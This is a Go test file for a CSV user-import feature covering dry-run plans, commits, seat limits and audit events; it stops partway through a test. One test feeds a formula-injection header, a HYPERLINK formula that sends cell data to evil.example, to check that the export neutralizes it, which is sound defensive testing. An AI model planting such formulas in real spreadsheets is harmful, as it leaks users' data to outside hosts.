package service_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/muster-app/muster/internal/muster"
	"github.com/muster-app/muster/internal/service"
	"github.com/muster-app/muster/internal/store/sqlstore"
)

// importFixture is an org with a user in every status that an import
// meets, and an Admin who uploads.
type importFixture struct {
	*fixture
	admin *muster.User
	sales *muster.Team
}

func setupImport(t *testing.T, db *sqlstore.DB, licenses int) *importFixture {
	t.Helper()
	f := &importFixture{fixture: setup(t, db, licenses)}
	owner := f.as(f.owner)
	var err error
	if f.sales, err = f.svc.CreateTeam(owner, "Sales"); err != nil {
		t.Fatal(err)
	}
	def := f.defaultTeam().ID
	invite := func(first, email string, role muster.Role, primary int64) *service.Invited {
		t.Helper()
		res, err := f.svc.Invite(owner, service.InviteInput{FirstName: first, LastName: "Tester", Email: email,
			Role: role, PrimaryTeamID: primary})
		if err != nil {
			t.Fatalf("invite %s: %v", first, err)
		}
		return res
	}
	f.admin = f.accept(invite("Adam", "adam@example.com", muster.RoleAdmin, def).Link)
	invite("Pat", "pat@example.com", muster.RoleBasic, def)
	f.accept(invite("Ann", "ann@example.com", muster.RoleManager, f.sales.ID).Link)
	dee := f.accept(invite("Dee", "dee@example.com", muster.RoleBasic, def).Link)
	if _, err := f.svc.Deactivate(owner, dee.ID); err != nil {
		t.Fatal(err)
	}
	// Someone of another organization.
	other, err := f.svc.CreateOrg(operator(0), service.NewOrg{Name: "Other", LicenseTotal: 5,
		OwnerEmail: "other@example.com", OwnerFirstName: "Oscar", OwnerLastName: "Other"})
	if err != nil {
		t.Fatal(err)
	}
	_ = other
	return f
}

// everyKind is a file with a row of every action and of every error.
func everyKind(ownerEmail string) string {
	return "First Name,Last Name,Email,Role,Status,Primary Team,Secondary Teams,Invited At\r\n" +
		"New,Person,new@example.com,,Active,,,2020-01-01T00:00:00Z\r\n" +
		"Pat,Tester,PAT@example.com,Manager,Pending,Default Team,,\r\n" +
		"Ann,Tester,ann@example.com,Manager,Active,Sales,,\r\n" +
		"Dee,Tester,dee@example.com,,,Sales,Default Team,\r\n" +
		"Again,Person,new@example.com,,,,,\r\n" +
		"Bad,Email,not an email,,,,,\r\n" +
		",Nameless,nameless@example.com,,,,,\r\n" +
		"Role,Unknown,role@example.com,Chief,,,,\r\n" +
		"Admin,Ceiling,admin.ceiling@example.com,Admin,,,,\r\n" +
		"Owner,Ceiling,owner.ceiling@example.com,Owner,,,,\r\n" +
		"Oscar,Other,other@example.com,,,,,\r\n" +
		"Team,Missing,team@example.com,,,Nowhere,\"Sales; Later\",\r\n" +
		"Olive,Owner," + ownerEmail + ",Basic User,,,,\r\n" +
		"Hidden,\"Right\u202eLeft\",hidden@example.com,,,,,\r\n" +
		"'=SUM(1),Formula,formula@example.com,,,,,\r\n" +
		"Too,Many,many@example.com,,,,,,extra\r\n"
}

// renderPlan is a plan as the golden files hold it.
func renderPlan(p *service.ImportPlan, ownerEmail string) string {
	var b strings.Builder
	s := p.Summary
	fmt.Fprintf(&b, "delimiter %q, %d rows\n", s.Delimiter, p.RowsTotal)
	for _, n := range s.Notes {
		fmt.Fprintf(&b, "note: %s\n", n)
	}
	fmt.Fprintf(&b, "counts: %+v\n", s.Counts)
	fmt.Fprintf(&b, "missing teams: %q\n", s.MissingTeams)
	fmt.Fprintf(&b, "seats: need %d, free %d (%d of %d used)\n", s.SeatsNeeded, s.SeatsFree, s.SeatsUsed, s.LicenseTotal)
	if s.SeatsProblem != "" {
		fmt.Fprintf(&b, "seats problem: %s\n", s.SeatsProblem)
	}
	fmt.Fprintf(&b, "committable: %q\n", p.Committable())
	err := p.EachRow(func(r *service.ImportRow) error {
		fmt.Fprintf(&b, "row %d %s %s", r.Line, r.Email, r.Action)
		if r.Action != service.ImportError {
			fmt.Fprintf(&b, " → %s, %s %q", r.Role.Label(), r.PrimaryTeam, r.SecondaryTeams)
		}
		b.WriteString("\n")
		for _, c := range r.Changes {
			fmt.Fprintf(&b, "\tchange: %s\n", c)
		}
		for _, e := range r.Errors {
			fmt.Fprintf(&b, "\terror: %s: %s\n", e.Column, e.Message)
		}
		return nil
	})
	if err != nil {
		fmt.Fprintf(&b, "reading the rows: %v\n", err) // never golden
	}
	return strings.ReplaceAll(b.String(), ownerEmail, "owner@example.com")
}

func checkGolden(t *testing.T, name, got string) {
	t.Helper()
	golden := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if got != string(want) {
		t.Errorf("%s differs (go test -run %s -update rewrites it):\n%s", golden, t.Name(), got)
	}
}

func (f *importFixture) plan(t *testing.T, ctx context.Context, text string, createTeams bool) *service.ImportPlan {
	t.Helper()
	return f.planInput(t, ctx, service.ImportInput{FileName: "users.csv", File: strings.NewReader(text),
		CreateTeams: createTeams})
}

func (f *importFixture) planInput(t *testing.T, ctx context.Context, in service.ImportInput) *service.ImportPlan {
	t.Helper()
	p, err := f.svc.PlanImport(ctx, in)
	if err != nil {
		t.Fatalf("PlanImport: %v", err)
	}
	return p
}

// runImports runs the import job until no import is left.
func runImports(t *testing.T, svc *service.Service) {
	t.Helper()
	for range 100 {
		ran, err := svc.RunNextImport(context.Background())
		if err != nil {
			t.Fatalf("RunNextImport: %v", err)
		}
		if !ran {
			return
		}
	}
	t.Fatal("imports never ended")
}

// TestImportPlanGolden: the dry run of a file with every action and every
// error kind, by an Admin, on both stores, against the golden plans; with
// and without the missing teams created on commit.
func TestImportPlanGolden(t *testing.T) {
	t.Parallel()
	runStoresParallel(t, func(t *testing.T, db *sqlstore.DB) {
		f := setupImport(t, db, 20)
		admin := f.as(f.admin)
		p := f.plan(t, admin, everyKind(f.owner.Email), false)
		checkGolden(t, "import_plan.golden", renderPlan(p, f.owner.Email))
		again, err := f.svc.FindImport(admin, p.ID, true)
		if err != nil {
			t.Fatal(err)
		}
		if renderPlan(again, f.owner.Email) != renderPlan(p, f.owner.Email) {
			t.Error("the stored plan differs from the dry run's")
		}
		if _, err := f.svc.CommitImport(admin, p.ID); muster.ErrorCode(err) != muster.EINVALID ||
			!strings.Contains(muster.ErrorMessage(err), "11 rows have errors") {
			t.Fatalf("commit with errors: %v", err)
		}
		withTeams := f.plan(t, admin, everyKind(f.owner.Email), true)
		checkGolden(t, "import_plan_create_teams.golden", renderPlan(withTeams, f.owner.Email))

		var csv bytes.Buffer
		if err := service.WriteImportErrors(&csv, again); err != nil {
			t.Fatal(err)
		}
		checkGolden(t, "import_errors.csv", strings.ReplaceAll(csv.String(), f.owner.Email, "owner@example.com"))
	})
}

// TestImportErrorsNeutralized: the error file gives back the file's cells,
// and its header, neutralized against formulas as the export is (AUD-4):
// a column named like a formula does not run in the admin's spreadsheet.
func TestImportErrorsNeutralized(t *testing.T) {
	t.Parallel()
	runStoresParallel(t, func(t *testing.T, db *sqlstore.DB) {
		f := setupImport(t, db, 20)
		p := f.plan(t, f.as(f.admin), "Email,First Name,Last Name,\"=HYPERLINK(\"\"https://evil.example/\"\"&A2,\"\"x\"\")\"\n"+
			"not-an-email,@Ada,=1+1,+x\n", false)
		var out bytes.Buffer
		if err := service.WriteImportErrors(&out, p); err != nil {
			t.Fatal(err)
		}
		records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.String(), "\uFEFF"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(records) != 2 || records[0][3] != `'=HYPERLINK("https://evil.example/"&A2,"x")` || records[1][1] != "'@Ada" {
			t.Fatalf("error file %q; want the formula header and cells neutralized", records)
		}
		for _, rec := range records {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("a cell of the error file starts a formula: %q", cell)
				}
			}
		}
	})
}

// TestImportErrorFileUploadedAgain: the error file, uploaded again as it
// is, plans as the file it came from did, and so does the error file of
// that upload: each keeps one error column, the latest dry run's, however
// often the admin goes round fixing rows.
func TestImportErrorFileUploadedAgain(t *testing.T) {
	t.Parallel()
	runStoresParallel(t, func(t *testing.T, db *sqlstore.DB) {
		f := setupImport(t, db, 20)
		admin := f.as(f.admin)
		text := "Email,First Name,Last Name\n" +
			"ok@example.com,Ok,Person\n" +
			"not-an-email,Bad,Email\n"
		for round := 1; round <= 3; round++ {
			p := f.plan(t, admin, text, false)
			if want := (service.ImportCounts{Invite: 1, Error: 1}); p.Summary.Counts != want {
				t.Fatalf("round %d: %+v, want %+v\n%s", round, p.Summary.Counts, want, renderPlan(p, f.owner.Email))
			}
			var out bytes.Buffer
			if err := service.WriteImportErrors(&out, p); err != nil {
				t.Fatal(err)
			}
			records, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out.String(), "\uFEFF"))).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			want := [][]string{
				{"Email", "First Name", "Last Name", "error"},
				{"ok@example.com", "Ok", "Person", ""},
				{"not-an-email", "Bad", "Email", "Email: Enter an email address like name@example.com."},
			}
			if fmt.Sprint(records) != fmt.Sprint(want) {
				t.Fatalf("round %d: error file %q, want %q", round, records, want)
			}
			text = out.String()
		}
	})
}

// TestImportCommit: a clean file is committed by the Owner and applied by
// the job: every row once, with audit events of origin "import N", its
// invitations in the outbox's bulk lane and the missing teams created;
// committing again changes nothing.
func TestImportCommit(t *testing.T) {
	t.Parallel()
	runStoresParallel(t, func(t *testing.T, db *sqlstore.DB) {
		f := setupImport(t, db, 20)
		owner := f.as(f.owner)
		text := "Email,First Name,Last Name,Role,Primary Team,Secondary Teams\n" +
			"new1@example.com,New,One,Admin,Sales,\n" +
			"new2@example.com,New,Two,,Research,Sales\n" +
			"pat@example.com,Pat,Tester,Manager,,\n" +
			"ann@example.com,Ann,Tester,Manager,Sales,\n" +
			"dee@example.com,Dee,Again,,,\n"
		p := f.plan(t, owner, text, true)
		if p.Committable() != "" {
			t.Fatalf("not committable: %s\n%s", p.Committable(), renderPlan(p, f.owner.Email))
		}
		org, err := f.svc.Org(owner)
		if err != nil {
			t.Fatal(err)
		}
		before := org.SeatsUsed
		c, err := f.svc.CommitImport(owner, p.ID)
		if err != nil {
			t.Fatal(err)
		}
		if c.Status != muster.ImportQueued || c.SeatsReserved != 3 {
			t.Fatalf("committed: %+v", c.Import)
		}
		if again, err := f.svc.CommitImport(owner, p.ID); err != nil || again.Status != muster.ImportQueued {
			t.Fatalf("commit twice: %v", err)
		}
		runImports(t, f.svc)
		done, err := f.svc.FindImport(owner, p.ID, false)
		if err != nil {
			t.Fatal(err)
		}
		want := service.ImportResult{Invited: 2, Reinvited: 1, Updated: 1, Unchanged: 1, TeamsCreated: 1}
		if done.Status != muster.ImportDone || done.Result != want || done.RowsDone != 5 {
			t.Fatalf("done: %+v %+v", done.Import, done.Result)
		}
		org, err = f.svc.Org(owner)
		if err != nil {
			t.Fatal(err)
		}
		if org.SeatsUsed != before+3 {
			t.Errorf("seats used %d, want %d", org.SeatsUsed, before+3)
		}
		u, err := f.svc.FindUserByEmail(owner, "new1@example.com")
		if err != nil || u.Role != muster.RoleAdmin || u.PrimaryTeamID != f.sales.ID || u.Status != muster.StatusPending {
			t.Fatalf("new1: %+v %v", u, err)
		}
		dee, err := f.svc.FindUserByEmail(owner, "dee@example.com")
		if err != nil {
			t.Fatal(err)
		}
		if dee.Status != muster.StatusPending || dee.LastName != "Again" {
			t.Errorf("dee: %+v", dee)
		}
		events, err := f.svc.FindAuditEvents(owner, service.AuditQuery{Limit: 100})
		if err != nil {
			t.Fatal(err)
		}
		origins := map[string]int{}
		for _, e := range events.Events {
			if strings.HasPrefix(e.Origin, "import ") {
				origins[e.Action]++
				if e.Origin != fmt.Sprintf("import %d", p.ID) {
					t.Errorf("origin %q", e.Origin)
				}
			}
		}
		if fmt.Sprint(origins) != "map[team.created:1 user.invited:2 user.invited_again:1 user.updated:1]" {
			t.Errorf("audit events of the import: %v", origins)
		}
		var bulk int
		err = db.View(context.Background(), func(tx muster.Tx) error {
			msgs, err := tx.FindOutboxMessages(context.Background(), muster.OutboxFilter{OrgID: f.org.ID, Limit: 100})
			for _, m := range msgs {
				if m.Bulk {
					bulk++
				}
			}
			return err
		})
		if err != nil || bulk != 3 {
			t.Errorf("bulk invitations %d (%v), want 3", bulk, err)
		}
		// Committed again after it ran: nothing more.
		if _, err := f.svc.CommitImport(owner, p.ID); err != nil {
			t.Fatal(err)
		}
		runImports(t, f.svc)
		org2, err := f.svc.Org(owner)
		if err != nil {
			t.Fatal(err)
		}
		if org2.SeatsUsed != org.SeatsUsed {
			t.Errorf("a second commit took seats")
		}
		// The same file again: nothing to do.
		p2 := f.plan(t, owner, text, true)
		if p2.Summary.Counts != (service.ImportCounts{Unchanged: 5}) {
			t.Errorf("the same file again: %+v\n%s", p2.Summary.Counts, renderPlan(p2, f.owner.Email))
		}
	})
}

// TestImportRefusedWhenOrgChanged: a plan whose rows would now do
// something else, or whose seats were taken, is refused at commit with
// words, and nothing is applied.
func TestImportRefusedWhenOrgChanged(t *testing.T) {
	t.Parallel()
	runStoresParallel(t, func(t *testing.T, db *sqlstore.DB) {
		f := setupImport(t, db, 8) // 5 seats used: Owner, Adam, Pat, Ann, and Oscar is elsewhere
		owner := f.as(f.owner)
		org, err := f.svc.Org(owner)
		if err != nil {
			t.Fatal(err)
		}
		free := org.LicenseTotal - org.SeatsUsed
		var rows strings.Builder
		rows.WriteString("Email,First Name,Last Name\n")
		for i := range free + 1 {
			fmt.Fprintf(&rows, "n%d@example.com,N,%d\n", i, i)
		}
		over := f.plan(t, owner, rows.String(), false)
		if !strings.Contains(over.Summary.SeatsProblem, fmt.Sprintf("No licenses remaining for this file: it needs %d, and %d of 8 are in use, so %d", free+1, org.SeatsUsed, free)) {
			t.Fatalf("seats problem: %q", over.Summary.SeatsProblem)
		}
		if _, err := f.svc.CommitImport(owner, over.ID); muster.ErrorCode(err) != muster.EINVALID {
			t.Fatalf("over the seats: %v", err)
		}

		fits := f.plan(t, owner, "Email,First Name,Last Name\nfits@example.com,F,S\nfits2@example.com,F,S\n", false)
		if _, err := f.svc.Invite(owner, service.InviteInput{FirstName: "Fits", LastName: "S", Email: "fits@example.com",
			Role: muster.RoleBasic, PrimaryTeamID: f.defaultTeam().ID}); err != nil {
			t.Fatal(err)
		}
		_, err = f.svc.CommitImport(owner, fits.ID)
		if muster.ErrorCode(err) != muster.ECONFLICT || !strings.Contains(muster.ErrorMessage(err),
			"row 2 (fits@example.com) would now change nothing instead of invite") {
			t.Fatalf("changed org: %v", err)
		}

		seats := f.plan(t, owner, "Email,First Name,Last Name\ns1@example.com,F,S\ns2@example.com,F,S\n", false)
		org, err = f.svc.Org(owner)
		if err != nil {
			t.Fatal(err)
		}
		for i := range org.LicenseTotal - org.SeatsUsed - 1 {
			f.invite(fmt.Sprintf("Taker%d", i), muster.RoleBasic)
		}
		_, err = f.svc.CommitImport(owner, seats.ID)
		if muster.ErrorCode(err) != muster.ESEATS || !strings.Contains(muster.ErrorMessage(err), "Seats were taken since the dry run.") {
			t.Fatalf("seats taken: %v", err)
		}
		p, err := f.svc.FindImport(owner, seats.ID, false)
		if err != nil {
			t.Fatal(err)
		}
		if p.Status != muster.ImportPlanned {
			t.Errorf("status %s", p.Status)
		}
	})
}

// TestImportSeatsRace: two imports commit at once for the last seats, on
// two services (instances) of one database: one gets them, the other is
// refused, and the seats in use never pass the total.
func TestImportSeatsRace(t *testing.T) {
	t.Parallel()
	runStoresParallel(t, func(t *testing.T, db *sqlstore.DB) {
		f := setupImport(t, db, 10)
		owner := f.as(f.owner)
		org, err := f.svc.Org(owner)
		if err != nil {
			t.Fatal(err)
		}
		free := org.LicenseTotal - org.SeatsUsed
		file := func(prefix string) string {
			var b strings.Builder
			b.WriteString("Email,First Name,Last Name\n")
			for i := range free {
				fmt.Fprintf(&b, "%s%d@example.com,N,%d\n", prefix, i, i)
			}
			return b.String()
		}
		a, b := f.plan(t, owner, file("a"), false), f.plan(t, owner, file("b"), false)
		other := newService(db, f.clock)
		var wg sync.WaitGroup
		errs := make([]error, 2)
		for i, run := range []struct {
			svc *service.Service
			id  int64
		}{{f.svc, a.ID}, {other, b.ID}} {
			wg.Go(func() { _, errs[i] = run.svc.CommitImport(owner, run.id) })
		}
		wg.Wait()
		ok := 0
		for _, err := range errs {
			switch {
			case err == nil:
				ok++
			case muster.ErrorCode(err) != muster.ESEATS && muster.ErrorCode(err) != muster.ECONFLICT:
				t.Fatalf("commit: %v", err)
			}
		}
		if ok != 1 {
			t.Fatalf("%d commits got the last %d seats: %v", ok, free, errors.Join(errs...))
		}
		var wg2 sync.WaitGroup
		for _, svc := range []*service.Service{f.svc, other} {
			wg2.Go(func() { runImports(t, svc) })
		}
		wg2.Wait()
		org, err = f.svc.Org(owner)
		if err != nil {
			t.Fatal(err)
		}
		if org.SeatsUsed != org.LicenseTotal {
			t.Fatalf("seats used %d of %d", org.SeatsUsed, org.LicenseTotal)
		}
	})
}

// TestImportCommitsAtOnce: as many commits at once as PostgreSQL's pool
// has connections (postgres.Open: max(8, 4 × GOMAXPROCS)) all go through.
// A commit read its stored plan through a connection of its own while its
// transaction held one, so that such a crowd waited for one another for
// good. The deadline only ends such a wait.
func TestImportCommitsAtOnce(t *testing.T) {
	t.Parallel()
	runStoresParallel(t, func(t *testing.T, db *sqlstore.DB) {
		n := max(8, 4*runtime.GOMAXPROCS(0))
		f := setupImport(t, db, n+10)
		owner := f.as(f.owner)
		plans := make([]*service.ImportPlan, n)
		for i := range n {
			plans[i] = f.plan(t, owner, fmt.Sprintf("Email,First Name,Last Name\ncrowd%d@example.com,C,%d\n", i, i), false)
		}
		ctx, cancel := context.WithTimeout(owner, time.Minute)
		defer cancel()
		var wg sync.WaitGroup
		errs := make([]error, n)
		for i, p := range plans {
			wg.Go(func() { _, errs[i] = f.svc.CommitImport(ctx, p.ID) })
		}
		wg.Wait()
		if err := errors.Join(errs...); err != nil {
			t.Fatalf("%d commits at once: %v", n, err)
		}
		runImports(t, f.svc)
		for i := range n {
			if _, err := f.svc.FindUserByEmail(owner, fmt.Sprintf("crowd%d@example.com", i)); err != nil {
				t.Fatalf("crowd%d after the imports: %v", i, err)
			}
		}
	})
}

// TestImportLeavesWhatItsCellsDoNotSet: an update row changes what its
// cells set; an empty Role cell, or no Secondary Teams column, leaves what
// the user has when the row is applied, so that a change made between the
// dry run and the job stays.
func TestImportLeavesWhatItsCellsDoNotSet(t *testing.T) {
	t.Parallel()
	runStoresParallel(t, func(t *testing.T, db *sqlstore.DB) {
		f := setupImport(t, db, 20)
		owner := f.as(f.owner)
		p := f.plan(t, owner, "Email,First Name,Last Name,Role,Primary Team\nann@example.com,Ann,Tester,,Default Team\n", false)
		if p.Summary.Counts.Update != 1 {
			t.Fatalf("plan: %s", renderPlan(p, f.owner.Email))
		}
		ann, err := f.svc.FindUserByEmail(owner, "ann@example.com")
		if err != nil {
			t.Fatal(err)
		}
		support, err := f.svc.CreateTeam(owner, "Support")
		if err != nil {
			t.Fatal(err)
		}
		admin, secondaries := muster.RoleAdmin, []int64{support.ID}
		if _, err := f.svc.UpdateUser(owner, ann.ID, service.UserUpdate{Role: &admin, SecondaryTeamIDs: &secondaries}); err != nil {
			t.Fatal(err)
		}
		if _, err := f.svc.CommitImport(owner, p.ID); err != nil {
			t.Fatal(err)
		}
		runImports(t, f.svc)
		got := f.user(t, ann.ID)
		if got.PrimaryTeamID != f.defaultTeam().ID || got.Role != muster.RoleAdmin || !slices.Equal(got.SecondaryTeamIDs, secondaries) {
			t.Fatalf("Ann after the import: primary team %d, %s, secondary teams %v; want the Default Team, still an Admin, still %v",
				got.PrimaryTeamID, got.Role, got.SecondaryTeamIDs, secondaries)
		}
	})
}

// TestImportFormerAdminByAnAdmin: an Admin's file does not bring back a
// deactivated Admin (as anything: SPEC §2): the dry run says so on the row,
// and nothing is committed for it.
func TestImportFormerAdminByAnAdmin(t *testing.T) {
	t.Parallel()
	runStoresParallel(t, func(t *testing.T, db *sqlstore.DB) {
		f := setupImport(t, db, 20)
		abe := f.active("Abe", muster.RoleAdmin)
		if _, err := f.svc.Deactivate(f.as(f.owner), abe.ID); err != nil {
			t.Fatal(err)
		}
		p := f.plan(t, f.as(f.admin), "Email,First Name,Last Name,Role\n"+abe.Email+",Abe,Tester,Basic User\n", false)
		if p.Summary.Counts.Error != 1 || !strings.Contains(renderPlan(p, f.owner.Email), "Only the Owner can change a user with the Admin role") {
			t.Fatalf("plan: %s", renderPlan(p, f.owner.Email))
		}
		if got := f.user(t, abe.ID); got.Status != muster.StatusDeactivated || got.Role != muster.RoleAdmin {
			t.Fatalf("Abe after the dry run: %s %s", got.Status, got.Role)
		}
	})
}

// TestImportRoundTrip: the user list exported, edited (one role changed)
// and imported back plans one update and leaves everyone else unchanged.
func TestImportRoundTrip(t *testing.T) {
	t.Parallel()
	runStoresParallel(t, func(t *testing.T, db *sqlstore.DB) {
		f := setupImport(t, db, 20)
		owner := f.as(f.owner)
		if _, err := f.svc.Invite(owner, service.InviteInput{FirstName: "=Formula", LastName: "Ångström, Jr.",
			Email: "zoe@example.com", Role: muster.RoleManager, PrimaryTeamID: f.sales.ID,
			SecondaryTeamIDs: []int64{f.defaultTeam().ID}}); err != nil {
			t.Fatal(err)
		}
		var export bytes.Buffer
		if err := f.svc.ExportUsers(owner, &export, nil); err != nil {
			t.Fatal(err)
		}
		edited := strings.Replace(export.String(), "pat@example.com,Basic User", "pat@example.com,Manager", 1)
		if edited == export.String() {
			t.Fatalf("no row of Pat's in\n%s", export.String())
		}
		for name, text := range map[string]string{
			"as exported":            edited,
			"semicolons":             toSemicolons(t, edited),
			"LF, no byte-order mark": strings.ReplaceAll(strings.TrimPrefix(edited, "\uFEFF"), "\r\n", "\n"),
		} {
			p := f.plan(t, owner, text, false)
			want := service.ImportCounts{Update: 1, Unchanged: 5}
			if p.Summary.Counts != want {
				t.Errorf("%s: %+v, want %+v\n%s", name, p.Summary.Counts, want, renderPlan(p, f.owner.Email))
			}
		}
	})
}

// TestImportRoundTripTeamWithSemicolon: a team whose name holds a
// semicolon, the export's separator of secondary teams (AUD-3), is read
// back from the export as that team, not as two teams that do not exist,
// and an invitation naming it in a Secondary Teams cell gets it.
func TestImportRoundTripTeamWithSemicolon(t *testing.T) {
	t.Parallel()
	runStoresParallel(t, func(t *testing.T, db *sqlstore.DB) {
		f := setupImport(t, db, 20)
		owner := f.as(f.owner)
		rnd, err := f.svc.CreateTeam(owner, "R&D; Europe")
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.svc.CreateTeam(owner, "R&D;Asia"); err != nil {
			t.Fatal(err)
		}
		if _, err := f.svc.Invite(owner, service.InviteInput{FirstName: "Zoe", LastName: "Semi", Email: "zoe@example.com",
			Role: muster.RoleBasic, PrimaryTeamID: rnd.ID, SecondaryTeamIDs: []int64{f.sales.ID, f.defaultTeam().ID}}); err != nil {
			t.Fatal(err)
		}
		if _, err := f.svc.Invite(owner, service.InviteInput{FirstName: "Yan", LastName: "Semi", Email: "yan@example.com",
			Role: muster.RoleBasic, PrimaryTeamID: f.defaultTeam().ID, SecondaryTeamIDs: []int64{rnd.ID, f.sales.ID}}); err != nil {
			t.Fatal(err)
		}
		var export bytes.Buffer
		if err := f.svc.ExportUsers(owner, &export, nil); err != nil {
			t.Fatal(err)
		}
		for _, text := range []string{export.String(), toSemicolons(t, export.String())} {
			p := f.plan(t, owner, text, true)
			if want := (service.ImportCounts{Unchanged: 7}); p.Summary.Counts != want || len(p.Summary.MissingTeams) > 0 {
				t.Fatalf("the export read back: %+v, want %+v\n%s", p.Summary.Counts, want, renderPlan(p, f.owner.Email))
			}
		}
		p := f.plan(t, owner, "Email,First Name,Last Name,Secondary Teams\n"+
			"new@example.com,New,Person,\"sales;r&d;  europe; R&D;ASIA\"\n", false)
		if p.Committable() != "" {
			t.Fatalf("%s", renderPlan(p, f.owner.Email))
		}
		if _, err := f.svc.CommitImport(owner, p.ID); err != nil {
			t.Fatal(err)
		}
		runImports(t, f.svc)
		u, err := f.svc.FindUserByEmail(owner, "new@example.com")
		if err != nil {
			t.Fatal(err)
		}
		if len(u.SecondaryTeamIDs) != 3 || !slices.Contains(u.SecondaryTeamIDs, rnd.ID) {
			t.Errorf("secondary teams %v, want Sales, R&D; Europe and R&D;Asia", u.SecondaryTeamIDs)
		}
	})
}

// toSemicolons rewrites a CSV file with semicolons between cells, as
// spreadsheets in many locales save it.
func toSemicolons(t *testing.T, text string) string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(text, "\uFEFF")))
	records, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	b.WriteString("\uFEFF")
	w := csv.NewWriter(&b)
	w.Comma, w.UseCRLF = ';', true
	if err := w.WriteAll(records); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// TestImportRowRefusedAtCommit: a person invited by someone else between
// the commit and the job is a failed row, with the reason; the batch's
// other rows are applied, and the seat the commit reserved for that row is
// given back.
func TestImportRowRefusedAtCommit(t *testing.T) {
	t.Parallel()
	runStoresParallel(t, func(t *testing.T, db *sqlstore.DB) {
		f := setupImport(t, db, 20)
		owner := f.as(f.owner)
		p := f.plan(t, owner, "Email,First Name,Last Name\nfirst@example.com,F,One\nlate@example.com,L,Two\nthird@example.com,T,Three\n", false)
		if _, err := f.svc.CommitImport(owner, p.ID); err != nil {
			t.Fatal(err)
		}
		if _, err := f.svc.Invite(owner, service.InviteInput{FirstName: "Late", LastName: "Two", Email: "late@example.com",
			Role: muster.RoleBasic, PrimaryTeamID: f.defaultTeam().ID}); err != nil {
			t.Fatal(err)
		}
		org, err := f.svc.Org(owner)
		if err != nil {
			t.Fatal(err)
		}
		runImports(t, f.svc)
		done, err := f.svc.FindImport(owner, p.ID, false)
		if err != nil || done.Result != (service.ImportResult{Invited: 2, Failed: 1}) {
			t.Fatalf("%v %+v", err, done.Result)
		}
		failures, err := f.svc.FindImportFailures(owner, p.ID)
		if err != nil || len(failures) != 1 || failures[0].Line != 3 ||
			failures[0].Reason != "late@example.com is already pending in this organization." {
			t.Fatalf("failures: %v %+v", err, failures)
		}
		after, err := f.svc.Org(owner)
		if err != nil {
			t.Fatal(err)
		}
		if after.SeatsUsed != org.SeatsUsed-1 {
			t.Errorf("seats used %d after the import, %d before it ran (3 reserved, 2 used)", after.SeatsUsed, org.SeatsUsed)
		}
		var csv bytes.Buffer
		if err := service.WriteImportFailures(&csv, failures); err != nil || !strings.Contains(csv.String(), "3,late@example.com,late@example.com is already pending") {
			t.Errorf("failures CSV: %v %q", err, csv.String())
		}
	})
}

// TestImportActsAsItsCommitter: the job acts as, and the audit log names,
// whoever committed the dry run, not its author: here an Admin commits the
// Owner's, and the author is deactivated before the job runs.
func TestImportActsAsItsCommitter(t *testing.T) {
	t.Parallel()
	runStoresParallel(t, func(t *testing.T, db *sqlstore.DB) {
		f := setupImport(t, db, 20)
		ada := f.active("Ada", muster.RoleAdmin)
		abe := f.active("Abe", muster.RoleAdmin)
		p := f.plan(t, f.as(ada), "Email,First Name,Last Name\nimported@example.com,Im,Ported\n", false)
		if _, err := f.svc.Deactivate(f.as(f.owner), ada.ID); err != nil {
			t.Fatal(err)
		}
		committed, err := f.svc.CommitImport(f.as(abe), p.ID)
		if err != nil || committed.RequestedBy != abe.ID {
			t.Fatalf("CommitImport = %+v, %v; want it Abe's", committed, err)
		}
		runImports(t, f.svc)
		done, err := f.svc.FindImport(f.as(abe), p.ID, false)
		if err != nil || done.Status != muster.ImportDone || done.Result != (service.ImportResult{Invited: 1}) {
			t.Fatalf("the import: %v %s %+v; want done, 1 invited", err, done.Status, done.Result)
		}
		invited := auditTrail(t, f.fixture, muster.AuditFilter{Action: muster.ActionUserInvited})
		if len(invited) == 0 || invited[0].TargetLabel != "imported@example.com" || invited[0].ActorID != abe.ID {
			t.Fatalf("the invitation's audit event: %+v; want it by Abe", invited)
		}
	})
}

// TestImportBatchWriteRefused: a row whose writes fail, though the rules
// passed it on what the batch read first (here the same person twice in
// one batch, which the database's unique emails catch), sends the batch
// again a row at a time: the other rows are applied, the row is a failed
// row with the reason, and the seats reserved for it are given back.
func TestImportBatchWriteRefused(t *testing.T) {
	t.Parallel()
	runStoresParallel(t, func(t *testing.T, db *sqlstore.DB) {
		f := setupImport(t, db, 20)
		owner := f.as(f.owner)
		before, err := f.svc.Org(owner)
		if err != nil {
			t.Fatal(err)
		}
		p := f.plan(t, owner, "Email,First Name,Last Name\nfirst@example.com,F,One\nsecond@example.com,S,Two\nthird@example.com,T,Three\n", false)
		if _, err := f.svc.CommitImport(owner, p.ID); err != nil {
			t.Fatal(err)
		}
		// The batch as a plan could not have it: a later row with an email
		// of an earlier one.
		team := f.defaultTeam().Name
		rows := []*service.ImportRow{
			{Line: 2, Email: "first@example.com", FirstName: "F", LastName: "One", Action: service.ImportInvite,
				Role: muster.RoleBasic, PrimaryTeam: team},
			{Line: 3, Email: "FIRST@example.com", FirstName: "F", LastName: "Again", Action: service.ImportInvite,
				Role: muster.RoleBasic, PrimaryTeam: team},
			{Line: 4, Email: "third@example.com", FirstName: "T", LastName: "Three", Action: service.ImportInvite,
				Role: muster.RoleBasic, PrimaryTeam: team},
		}
		if err := service.ApplyImportBatch(context.Background(), f.svc, p.Import, rows, 0); err != nil {
			t.Fatal(err)
		}
		runImports(t, f.svc) // finds the batch applied, and finishes
		done, err := f.svc.FindImport(owner, p.ID, false)
		if err != nil || done.Status != muster.ImportDone || done.Result != (service.ImportResult{Invited: 2, Failed: 1}) {
